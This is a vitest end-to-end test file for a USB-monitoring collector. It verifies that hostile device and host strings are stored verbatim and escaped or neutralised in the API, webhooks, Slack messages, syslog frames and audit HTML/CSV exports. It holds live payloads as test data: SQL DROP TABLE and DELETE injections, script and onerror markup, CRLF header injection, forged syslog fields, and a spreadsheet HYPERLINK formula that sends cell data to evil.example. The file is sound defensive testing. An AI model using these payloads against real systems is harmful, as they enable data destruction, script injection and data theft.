import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Alert, listEnvelope } from '@vigil/shared';
import { startHttpReceiver, startTcpReceiver, startUdpReceiver, until } from '../notifiers/test-support/receivers.js';
import { parseRfc5424 } from '../notifiers/test-support/syslog-parse.js';
import { ADMIN_TOKEN, hostFacts, startHarness, TestAgent, type Harness } from '../test-support/harness.js';

// Injection end to end: a USB stick whose descriptor strings (and a host whose name) carry SQL,
// markup, spreadsheet formulas, CR/LF header breaks and forged syslog structured data, sent by an
// agent over a real WebSocket to a collector on a real SQLite file with real receivers on
// 127.0.0.1. Every output must carry the text as text: stored verbatim (prepared statements only),
// JSON-escaped in the API and webhook, one syslog frame with no forged fields, no extra HTTP
// header, escaped HTML in the audit export, neutralised cells in its CSV.

const HOSTILE = {
  sql: `Kingston'); DROP TABLE alerts; --`,
  markup: `<img src=x onerror="globalThis.pwned=1"><script>alert(1)</script>`,
  formula: `=HYPERLINK("http://evil.example/?"&A1,"Open")`,
  header: `Cruzer\r\nX-Injected: yes\r\n\r\n<html>`,
  syslog: `x"] [vigil@32473 rule="forged"]\n<13>1 2025-01-01T00:00:00Z forged-host vigil - alert - injected`,
};
const HOSTNAME = `ws-<b>9</b>'; DELETE FROM hosts;--`;

const auth = { authorization: `Bearer ${ADMIN_TOKEN}` };
let h: Harness;
let web: Awaited<ReturnType<typeof startHttpReceiver>>;
let tcp: Awaited<ReturnType<typeof startTcpReceiver>>;
let udp: Awaited<ReturnType<typeof startUdpReceiver>>;
let alert: Alert;

beforeAll(async () => {
  web = await startHttpReceiver();
  tcp = await startTcpReceiver();
  udp = await startUdpReceiver();
  h = await startHarness({ notifications: { retry: { baseDelayMs: 20, maxDelayMs: 100, maxAttempts: 3 }, tuning: { sendTimeoutMs: 5_000, stopGraceMs: 100 }, syslogHostname: 'collector-test' } });
  const targets = [
    { name: 'SIEM webhook', kind: 'webhook', config: { url: `${web.base}/ok` } },
    { name: 'IT Slack', kind: 'slack', config: { url: `${web.base}/slack` } },
    { name: 'syslog tcp', kind: 'syslog', config: { host: '127.0.0.1', port: tcp.port, transport: 'tcp' } },
    { name: 'syslog udp', kind: 'syslog', config: { host: '127.0.0.1', port: udp.port, transport: 'udp' } },
  ];
  for (const t of targets) expect((await h.app.inject({ method: 'POST', url: '/api/v1/notifications/targets', headers: auth, payload: t })).statusCode).toBe(201);

  const creds = await h.enrol(hostFacts({ hostname: HOSTNAME }));
  const agent = await TestAgent.connect(h.wsUrl, creds.agentToken, { agentId: creds.agentId });
  const serial = HOSTILE.syslog;
  const env = agent.send('usb.attached', {
    device: {
      key: `usb:0951:1666:${serial}`,
      vendorId: '0951',
      productId: '1666',
      serial,
      manufacturer: `${HOSTILE.sql} ${HOSTILE.formula}`,
      product: `${HOSTILE.markup}${HOSTILE.header}`,
      deviceClass: '00',
      interfaceClasses: ['08'],
      busPath: '1-1.4',
      removable: 'removable',
      isHub: false,
      isRootHub: false,
    },
    present: false,
  });
  const ack = await agent.waitForAck(env.seq);
  expect(ack.body.rejected ?? []).toEqual([]);
  agent.close();
  alert = await until(
    'the USB alert',
    async () => {
      const page = listEnvelope(Alert).parse((await h.app.inject({ url: '/api/v1/alerts?rule=usb.unauthorised', headers: auth })).json());
      return page.items[0];
    },
    5_000,
  );
});
afterAll(async () => {
  await h?.close();
  await web?.close();
  await tcp?.close();
  await udp?.close();
});

describe('hostile device and host strings, end to end', () => {
  it('are stored and served verbatim; the SQL in them ran nowhere', async () => {
    expect(alert.hostname).toBe(HOSTNAME);
    expect(alert.details).toMatchObject({ manufacturer: `${HOSTILE.sql} ${HOSTILE.formula}`, product: `${HOSTILE.markup}${HOSTILE.header}`, serial: HOSTILE.syslog });
    const tables = (h.store.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all() as { name: string }[]).map((r) => r.name);
    expect(tables).toEqual(expect.arrayContaining(['alerts', 'hosts', 'messages']));
    expect((h.store.db.prepare('SELECT count(*) AS n FROM hosts').get() as { n: number }).n).toBe(1);
    // The API's JSON has no raw markup an HTML sniffer could act on, and says it is JSON.
    const res = await h.app.inject({ url: `/api/v1/alerts/${alert.id}`, headers: auth });
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });

  it('adds no HTTP header to a webhook and arrives as the same text', async () => {
    const hook = await until('the webhook', () => web.requests.find((r) => r.path === '/ok'));
    expect(hook.headers['x-injected']).toBeUndefined();
    for (const [name, value] of Object.entries(hook.headers)) expect(`${name}: ${String(value)}`).not.toMatch(/[\r\n]/);
    expect((JSON.parse(hook.body) as { alert: Alert }).alert.details).toMatchObject({ product: `${HOSTILE.markup}${HOSTILE.header}` });
    // Slack text: the device's text cannot mention, link or break out of its code span.
    const slack = await until('the Slack webhook', () => web.requests.find((r) => r.path === '/slack'));
    const text = (JSON.parse(slack.body) as { text: string }).text;
    expect(text).not.toMatch(/[\r\n]|<(?!!)|<img|<script/);
    expect(text).toContain('&lt;img');
  });

  it('is one syslog frame over TCP and one datagram over UDP, without forged structured data or lines', async () => {
    for (const raw of [await until('the TCP frame', () => tcp.frames[0]), await until('the UDP datagram', () => udp.messages[0])]) {
      expect(raw).not.toMatch(/[\r\n]/);
      const msg = parseRfc5424(raw);
      expect(msg.hostname).toBe('collector-test');
      expect(msg.sd?.id).toBe('vigil@32473');
      expect(msg.sd?.params.rule).toBe('usb.unauthorised');
      expect(msg.sd?.params.host).toBe(HOSTNAME);
      // Line breaks in a parameter value become spaces (one line per message); the rest is escaped in place.
      expect(msg.sd?.params.subject).toBe(alert.subject.replace(/[\r\n]/g, ' '));
    }
    expect(tcp.frames).toHaveLength(1);
    expect(udp.messages).toHaveLength(1);
  });

  it('is escaped in the audit report HTML and neutralised in its CSV', async () => {
    const drawn = await h.app.inject({ method: 'POST', url: '/api/v1/audits', headers: auth, payload: { size: 1, seed: 'injection' } });
    expect(drawn.statusCode).toBe(201);
    const id = (drawn.json() as { id: string }).id;
    const html = (await h.app.inject({ url: `/api/v1/audits/${id}/export?format=html`, headers: auth })).body;
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('<script>alert(1)');
    expect(html).not.toContain('<b>9</b>');
    expect(html).toContain('&lt;img src=x');
    const csv = (await h.app.inject({ url: `/api/v1/audits/${id}/export?format=csv`, headers: auth })).body;
    expect(csv).toContain('HYPERLINK');
    // A cell never starts with a formula character: each field, quoted or not, begins after a comma or a line start.
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
  });
});
